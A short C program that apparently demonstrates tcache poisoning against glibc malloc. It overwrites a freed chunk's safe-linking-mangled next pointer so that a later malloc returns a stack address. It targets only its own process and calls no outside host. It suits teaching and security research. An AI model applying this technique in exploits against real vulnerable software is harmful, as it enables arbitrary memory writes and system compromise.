/* The mangled link of a cached block leads to the stack. */
#include <stdio.h>
#include <stdlib.h>
#include <stdint.h>
#include <assert.h>
int main(void) {
    setbuf(stdin, NULL);
    setbuf(stdout, NULL);
    size_t stack_var[0x10];
    size_t *target = NULL;
    for (int i = 0; i < 0x10; i++)
        if (((long)&stack_var[i] & 0xf) == 0) { target = &stack_var[i]; break; }
    assert(target != NULL);
    intptr_t *a = malloc(128);
    intptr_t *b = malloc(128);
    free(a);
    free(b);
    b[0] = (intptr_t)((long)target ^ (long)b >> 12);
    malloc(128);
    intptr_t *c = malloc(128);
    assert((long)target == (long)c);
    return 0;
}
